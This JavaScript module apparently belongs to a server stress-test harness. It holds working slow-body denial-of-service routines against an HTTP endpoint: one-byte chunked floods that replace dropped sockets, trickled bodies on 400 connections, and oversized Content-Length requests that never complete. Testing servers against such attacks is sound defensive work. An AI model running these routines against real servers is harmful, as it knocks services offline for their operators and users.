/** Bodies that come in crumbs, slowly, or never. */

import { setTimeout as sleep } from 'node:timers/promises';
import { stillOpen } from './readers.js';

const crumbs = Buffer.from('1\r\nx\r\n'.repeat(10_000));

/**
 * Sends chunks of one byte on so many connections, as fast as they are taken.
 *
 * @param {import('../attacker.js').Attacker} attacker
 * @param {number} count
 */
async function sendCrumbs(attacker, count) {
  const begin = () =>
    attacker.bytes('POST', '/api/methods/post', { headers: { 'Transfer-Encoding': 'chunked' } });
  /** @param {import('node:net').Socket} socket */
  function use(socket) {
    const more = () => {
      while (!socket.destroyed && socket.write(crumbs));
    };
    socket.resume();
    socket.write(begin());
    socket.on('drain', more);
    more();
  }
  let isFirst = true;
  while (!attacker.isOver()) {
    // Those that were answered or cut are replaced.
    const sockets = await attacker.openMany(isFirst ? count : Math.ceil(count / 4), use);
    isFirst = false;
    while (!attacker.isOver() && sockets.filter(({ destroyed }) => destroyed).length < count / 4) {
      await sleep(50);
    }
  }
}

/** @type {readonly import('../attacker.js').Attack[]} */
export const bodyAttacks = [
  {
    name: 'bodies in chunks of one byte on 8 connections',
    run: (attacker) => sendCrumbs(attacker, 8),
  },
  {
    name: 'bodies in chunks of one byte on 200 connections',
    run: (attacker) => sendCrumbs(attacker, 200),
  },
  {
    name: '400 bodies of five bytes a second',
    seconds: 45,
    async run(attacker) {
      const headers = { 'Content-Length': '1000000' };
      const sockets = await attacker.openMany(400, (socket) => {
        socket.resume();
        socket.write(attacker.bytes('POST', '/api/methods/post', { headers }));
      });
      while (!attacker.isOver()) {
        for (const socket of sockets) socket.write('x');
        await sleep(200);
      }
      return stillOpen(attacker, sockets, 'bodies');
    },
  },
  {
    name: '400 bodies of 10 MiB that never come',
    seconds: 45,
    async run(attacker) {
      const headers = { 'Content-Length': String(10 * 1024 * 1024) };
      const sockets = await attacker.openMany(400, (socket) => {
        socket.resume();
        socket.write(attacker.bytes('POST', '/api/methods/post', { headers }));
      });
      await attacker.untilOver();
      return stillOpen(attacker, sockets, 'bodies');
    },
  },
];
